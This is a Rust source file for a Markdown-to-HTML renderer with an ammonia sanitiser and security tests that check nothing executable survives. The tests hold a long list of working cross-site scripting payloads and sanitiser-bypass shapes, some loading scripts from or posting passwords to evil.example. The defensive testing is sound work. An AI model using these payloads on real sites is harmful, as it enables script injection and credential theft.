//! Markdown in, sanitised HTML out. Ammonia is always last (SEC-U4).

use model::html::SafeHtml;
use pulldown_cmark::{Event, Options, Parser, html};

/// Renders what an author or a reviewer wrote.
///
/// Links are http, https, mailto or paths of ours and carry `rel="ugc nofollow noopener"`; images only from `/media/`.
/// Headings are moved one level down, since the page owns the first.
pub fn render(markdown: &str) -> SafeHtml {
    // no footnotes: what they lead to would need an id, and two texts on a page would share it
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut raw = String::with_capacity(markdown.len() * 2);
    let mut shallow = Shallow::default();
    let events: Vec<_> = Parser::new_ext(markdown, options).filter(|event| shallow.keeps(event)).collect();
    let events: Vec<_> = if is_too_much(&events) { events.into_iter().map(as_typed).collect() } else { events };
    html::push_html(&mut raw, events.into_iter().map(lower_heading).map(draw_box));
    SafeHtml::sanitised(sanitiser().clean(&raw).to_string())
}

/// How deep quotations and lists may stand in one another. Nobody reads deeper, and the sanitiser's time grows with the square.
const DEEPEST: usize = 24;

/// The most tags of a writer's own HTML that are read as such. They may all be open in one another, and the sanitiser's time grows
/// with the square.
const MOST_TAGS: usize = 4_000;

/// Elements that a reader of HTML opens again in every block until they are closed.
const REOPENED: [&str; 14] = ["a", "b", "big", "code", "em", "font", "i", "nobr", "s", "small", "strike", "strong", "tt", "u"];
/// So often at most, in all.
const MOST_REOPENED: usize = 300_000;

/// Whether there is so much HTML of the writer's own that it is shown as what was typed.
fn is_too_much(events: &[Event<'_>]) -> bool {
    let (mut tags, mut reopened, mut blocks) = (0usize, 0usize, 0usize);
    for event in events {
        match event {
            Event::Start(_) => blocks += 1,
            Event::Html(html) | Event::InlineHtml(html) => {
                for tag in html.split('<').skip(1) {
                    let name = tag.split(|sign: char| !sign.is_ascii_alphanumeric()).next().unwrap_or_default();
                    tags += 1;
                    match REOPENED.contains(&name.to_ascii_lowercase().as_str()) {
                        true => reopened += 1,
                        false => blocks += 1,
                    }
                }
            }
            _ => (),
        }
    }
    tags > MOST_TAGS || reopened.saturating_mul(blocks) > MOST_REOPENED
}

fn as_typed(event: Event<'_>) -> Event<'_> {
    match event {
        Event::Html(html) | Event::InlineHtml(html) => Event::Text(html),
        other => other,
    }
}

/// Leaves out the frames below [`DEEPEST`], keeping what stands in them.
#[derive(Default)]
struct Shallow {
    /// How many frames are open, shown or left out.
    open: usize,
}

impl Shallow {
    fn keeps(&mut self, event: &Event<'_>) -> bool {
        match event {
            Event::Start(_) => {
                self.open += 1;
                self.open <= DEEPEST
            }
            Event::End(_) => {
                self.open = self.open.saturating_sub(1);
                self.open < DEEPEST
            }
            // HTML of the writer's own may nest as well; below the deepest frame it is dropped
            Event::Html(_) | Event::InlineHtml(_) => self.open <= DEEPEST,
            _ => true,
        }
    }
}

fn lower_heading(event: Event<'_>) -> Event<'_> {
    use pulldown_cmark::{HeadingLevel, Tag, TagEnd};
    let lower = |level| match level {
        HeadingLevel::H1 => HeadingLevel::H2,
        HeadingLevel::H2 => HeadingLevel::H3,
        _ => HeadingLevel::H4,
    };
    match event {
        Event::Start(Tag::Heading { level, id, classes, attrs }) => {
            Event::Start(Tag::Heading { level: lower(level), id, classes, attrs })
        }
        Event::End(TagEnd::Heading(level)) => Event::End(TagEnd::Heading(lower(level))),
        other => other,
    }
}

/// A list of things to do shows its boxes as characters: nothing can be ticked in a text.
fn draw_box(event: Event<'_>) -> Event<'_> {
    match event {
        Event::TaskListMarker(true) => Event::Text("☑ ".into()),
        Event::TaskListMarker(false) => Event::Text("☐ ".into()),
        other => other,
    }
}

/// Of addresses that lead out of the house.
const SCHEMES: [&str; 3] = ["http", "https", "mailto"];

fn sanitiser() -> ammonia::Builder<'static> {
    let mut builder = ammonia::Builder::default();
    builder
        .link_rel(Some("ugc nofollow noopener"))
        .url_schemes(SCHEMES.into())
        .rm_tags(["map", "area", "details", "summary"])
        .attribute_filter(|element, attribute, value| match (element, attribute) {
            ("img", "src") if !value.starts_with("/media/") => None,
            (_, "href" | "src" | "cite") if leads_astray(value) => None,
            (_, "id" | "name" | "class") => None,
            _ => Some(value.into()),
        });
    builder
}

/// Whether an address would have another scheme than ours to whoever passes over what cannot be seen in it.
fn leads_astray(address: &str) -> bool {
    let seen: String = address.chars().filter(|sign| !sign.is_control() && !sign.is_whitespace()).collect();
    let before = seen.split(['/', '?', '#']).next().unwrap_or_default();
    before.split_once(':').is_some_and(|(scheme, _)| !SCHEMES.contains(&scheme.to_ascii_lowercase().as_str()))
}

/// The first words without markup, for summaries and search.
pub fn plain(html: &SafeHtml) -> String {
    let text = ammonia::Builder::empty().clean(html.as_str()).to_string();
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_becomes_html_below_the_page_s_own_heading() {
        let html = render("# Title\n\nA *fine* day.\n\n| a | b |\n|---|---|\n| 1 | 2 |");
        assert!(html.as_str().contains("<h2>Title</h2>"));
        assert!(html.as_str().contains("<em>fine</em>"));
        assert!(html.as_str().contains("<table>"));
    }

    #[test]
    fn things_to_do_keep_their_boxes_and_no_link_leads_nowhere() {
        let html = render("- [x] done\n- [ ] open\n\nAs Ada says[^1].\n\n[^1]: In her notes.");
        assert!(html.as_str().contains("☑ done") && html.as_str().contains("☐ open"), "{}", html.as_str());
        assert!(!html.as_str().contains("<a "), "{}", html.as_str());
    }

    #[test]
    fn sec_u4_nothing_that_runs_survives() {
        for evil in [
            "<script>alert(1)</script>",
            "[x](javascript:alert(1))",
            "<img src=x onerror=alert(1)>",
            "![x](https://tracker.example/pixel.gif)",
            "<a href=\"data:text/html,<script>1</script>\">x</a>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<iframe src=https://evil></iframe>",
        ] {
            let html = render(evil);
            for trace in ["<script", "javascript:", "onerror", "tracker.example", "data:", "<iframe", "<svg"] {
                assert!(!html.as_str().contains(trace), "{evil} → {}", html.as_str());
            }
        }
    }

    #[test]
    fn sec_u4_deep_nesting_is_quick_and_harmless() {
        for (deep, most) in [
            (">".repeat(100_000), 10_000),
            ("- ".repeat(50_000), 10_000),
            ("[".repeat(200_000), 300_000),
            ("![".repeat(50_000), 300_000),
            ("*a _b ".repeat(30_000), 300_000),
        ] {
            let html = render(&deep);
            assert!(html.as_str().len() < most, "{} … {}", &deep[..8], html.as_str().len());
        }
    }

    #[test]
    fn sec_u4_more_html_than_anybody_writes_is_shown_as_it_was_typed() {
        let reopened: String = (0..200).map(|n| format!("<b title={n}>")).collect();
        for much in [
            "<div>".repeat(40_000),
            "<div></x>".repeat(20_000),
            "<div title='</div>'>".repeat(10_000),
            "<b></x>".repeat(28_000),
            "x <b> y ".repeat(20_000),
            reopened + &"\n\nx".repeat(50_000),
        ] {
            let html = render(&much);
            let start = &much[..8];
            assert!(!html.as_str().contains("<b") && !html.as_str().contains("<div"), "{start}");
            assert!(html.as_str().contains("&lt;"), "{start}: nothing is lost");
            assert!(html.as_str().len() < 10 * much.len(), "{start}");
        }
    }

    #[test]
    fn html_that_a_writer_would_write_stays() {
        let table = format!("<table>{}</table>", "<tr><td>cell</td><td>another<br></td></tr>".repeat(500));
        assert_eq!(render(&table).as_str().matches("cell").count(), 500);
        let paragraphs = "<p>one\n\n".repeat(200);
        assert_eq!(render(&paragraphs).as_str().matches("one").count(), 200);
    }

    /// Markup as a browser reads it: every element that begins, with its attributes.
    fn elements(html: &str) -> Vec<(String, Vec<(String, String)>)> {
        let mut found = Vec::new();
        let mut rest = html;
        while let Some((_, after)) = rest.split_once('<') {
            let end = after.find(|sign: char| sign.is_whitespace() || sign == '>').unwrap_or(after.len());
            let (name, mut inside) = after.split_at(end);
            let mut attributes = Vec::new();
            loop {
                inside = inside.trim_start();
                let Some((attribute, value)) = inside.split_once("=\"").filter(|(name, _)| !name.contains('>')) else { break };
                let (value, after) = value.split_once('"').expect("a value ends");
                attributes.push((attribute.to_ascii_lowercase(), value.to_owned()));
                inside = after;
            }
            found.push((name.trim_start_matches('/').to_ascii_lowercase(), attributes));
            rest = inside.split_once('>').map_or("", |(_, rest)| rest);
        }
        found
    }

    /// The scheme that a browser finds in an address, in small letters; empty where it is one of ours.
    fn scheme(address: &str) -> String {
        // browsers pass over what cannot be seen
        let seen: String = address.chars().filter(|sign| !sign.is_control()).collect();
        let (before, _) = seen.trim().split_once(':').unwrap_or_default();
        let is_one = before.chars().all(|sign| sign.is_ascii_alphanumeric() || "+-.".contains(sign));
        if is_one { before.to_ascii_lowercase() } else { String::new() }
    }

    /// Elements that show something and do nothing.
    const HARMLESS: &[&str] = &[
        "a",
        "abbr",
        "acronym",
        "article",
        "aside",
        "b",
        "bdi",
        "bdo",
        "blockquote",
        "br",
        "caption",
        "center",
        "cite",
        "code",
        "col",
        "colgroup",
        "data",
        "dd",
        "del",
        "dfn",
        "div",
        "dl",
        "dt",
        "em",
        "figcaption",
        "figure",
        "footer",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "header",
        "hgroup",
        "hr",
        "i",
        "img",
        "ins",
        "kbd",
        "li",
        "mark",
        "nav",
        "ol",
        "p",
        "pre",
        "q",
        "rp",
        "rt",
        "rtc",
        "ruby",
        "s",
        "samp",
        "small",
        "span",
        "strike",
        "strong",
        "sub",
        "sup",
        "table",
        "tt",
        "u",
        "ul",
        "h1",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "time",
        "tr",
        "var",
        "wbr",
        "section",
    ];

    /// Shapes that are known from cheat sheets, and from sanitisers that were got round.
    const ATTACKS: &[&str] = &[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script>",
        "<<script>alert(1)//<</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror='alert(1)'//",
        "<img/src=`x`onerror=alert(1)>",
        "<img src=\"/media/x\" onload=\"alert(1)\">",
        "<img src=/media/x srcset=\"javascript:alert(1) 1x\">",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<select><style></select><img src=x onerror=alert(1)></style>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css'; * { background: url(//evil.example) }</style>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<p style=\"position:fixed;inset:0\">over everything</p>",
        "<form action=//evil.example><input name=password><button>Sign in</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java&#x0A;script:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
        "<a href=\" \u{1}javascript:alert(1)\">x</a>",
        "<a href=\"da\u{4}ta:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"java script:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"blob:https://x/y\">x</a>",
        "<a href=\"//evil.example\" target=_blank ping=\"//evil.example\" onclick=alert(1)>x</a>",
        "<a id=x name=y class=btn href=/en>x</a>",
        "<div is=lesson-editor data-x=y></div>",
        "<passkey-gate></passkey-gate><app-notices></app-notices>",
        "[x](javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](JAVASCRIPT&colon;alert(1))",
        "[x](java%0ascript:alert(1))",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "![x](x\"onerror=\"alert(1))",
        "![x](https://tracker.example/pixel.gif)",
        "![x](javascript:alert(1) 'title\" onerror=alert(1) x=\"')",
        "`<script>alert(1)</script>`",
        "```\"><script>alert(1)</script>\nx\n```",
        "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
        "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml <img src=x onerror=alert(1)> ?>",
        "<a href='x' title='\"><img src=x onerror=alert(1)>'>x</a>",
        "\u{3c}\u{0}script>alert(1)</script>",
        "＜script＞alert(1)＜/script＞",
    ];

    #[test]
    fn sec_u4_what_is_left_of_an_attack_shows_something_and_does_nothing() {
        for attack in ATTACKS {
            let once = render(attack);
            // what was stored and is read as an author's own words again is no more than it was
            for html in [once.as_str().to_owned(), render(once.as_str()).as_str().to_owned()] {
                for (element, attributes) in elements(&html) {
                    assert!(HARMLESS.contains(&element.as_str()), "{attack} → <{element}> in {html}");
                    for (name, value) in attributes {
                        let known = !name.starts_with("on")
                            && !matches!(name.as_str(), "style" | "id" | "name" | "class" | "srcset" | "ping" | "is" | "target")
                            && !name.starts_with("data-");
                        assert!(known, "{attack} → {name} in {html}");
                        if !matches!(name.as_str(), "href" | "src" | "cite") {
                            continue;
                        }
                        let scheme = scheme(&value);
                        assert!(["", "http", "https", "mailto"].contains(&scheme.as_str()), "{attack} → {value} in {html}");
                        assert!(
                            name != "src" || value.starts_with("/media/") || value.starts_with("/img/"),
                            "{attack} → {value}"
                        );
                    }
                }
            }
        }
    }
}
